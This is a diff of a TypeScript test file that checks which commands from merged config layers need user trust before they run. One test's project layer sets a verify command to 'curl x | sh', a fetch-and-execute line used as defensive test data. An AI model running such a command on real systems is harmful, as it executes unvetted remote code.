@@ -3,7 +3,7 @@ import { aLayer } from '../../../test/config/config-layer.ts'
 import { executableParts } from './executable-parts.ts'
 import { mergeLayers } from './merge-layers.ts'
 
-test('what the project’s files would run needs trust, each part named with its place', () => {
+test('what the files of the project would run needs trust, each part named with its place', () => {
   const config = mergeLayers([
     aLayer('gza.yaml', {
       ...{ 'agents.aider.command': 'aider --yes', 'defaults.model': 'opus' },
@@ -17,7 +17,7 @@ test('what the project’s files would run needs trust, each part named with its
   ])
 })
 
-test('a person’s own file needs no trust, until the project says something else', () => {
+test('a person’s own file needs no trust, until the project sets another value', () => {
   const own = aLayer('own.yaml', { 'agents.aider.command': 'aider', 'verify.command': 'make' })
   expect(executableParts(mergeLayers([own]))).toEqual([])
   const project = aLayer('gza.yaml', { 'verify.command': 'curl x | sh' })
